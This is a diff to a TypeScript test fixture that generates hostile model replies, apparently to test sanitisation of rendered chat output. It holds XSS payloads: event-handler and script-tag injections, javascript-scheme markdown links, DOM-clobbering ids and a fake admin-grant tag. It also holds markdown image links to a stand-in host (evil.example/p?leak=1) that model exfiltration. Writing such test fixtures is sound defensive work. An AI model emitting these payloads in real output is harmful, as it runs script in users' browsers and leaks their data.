@@ -1,4 +1,4 @@
-const AWAY = 'https://evil.example';
+const FOREIGN_ORIGIN = 'https://evil.example';
 const RUN = 'window.hacked=1;alert(1)';
 
 const tags = [
@@ -37,19 +37,19 @@ const orders = [
   '<think>secret</think><admin>grant</admin>',
 ];
 
-/** What a hostile model may write, in families; thirty to a reply. */
+/** Hostile replies by kind, thirty payloads in each reply. */
 export function hostileReplies(): string[][] {
   const payloads = [
-    ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} src=x href=${AWAY} ${handler}="${RUN}">payload</${tag}>`)),
+    ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} src=x href=${FOREIGN_ORIGIN} ${handler}="${RUN}">payload</${tag}>`)),
     ...tags.flatMap((tag) => handlers.slice(0, 4).map((handler) => `"'><${tag}/${handler}=${RUN}//payload`)),
     ...tags.map((tag) => `<${tag}><script>${RUN}</script>payload`),
     ...schemes.flatMap((scheme) => [`[payload](${scheme}${RUN})`, `![payload](${scheme}${RUN})`, `<${scheme}${RUN}> payload`]),
     ...['p?leak=1', 'x.png', 'a b', 'x"onload="'].flatMap((path) => [
-      `![payload](${AWAY}/${path})`,
-      `[![payload](${AWAY}/${path})](${AWAY})`,
-      `![payload][ref]\n\n[ref]: ${AWAY}/${path}`,
-      `<img src="${AWAY}/${path}"> payload`,
-      `payload ${AWAY}/${path}`,
+      `![payload](${FOREIGN_ORIGIN}/${path})`,
+      `[![payload](${FOREIGN_ORIGIN}/${path})](${FOREIGN_ORIGIN})`,
+      `![payload][ref]\n\n[ref]: ${FOREIGN_ORIGIN}/${path}`,
+      `<img src="${FOREIGN_ORIGIN}/${path}"> payload`,
+      `payload ${FOREIGN_ORIGIN}/${path}`,
     ]),
     ...['__proto__', 'getElementById', 'body', 'constructor', 'location'].flatMap((id) => [
       `<a id="${id}" name="${id}">payload</a>`,
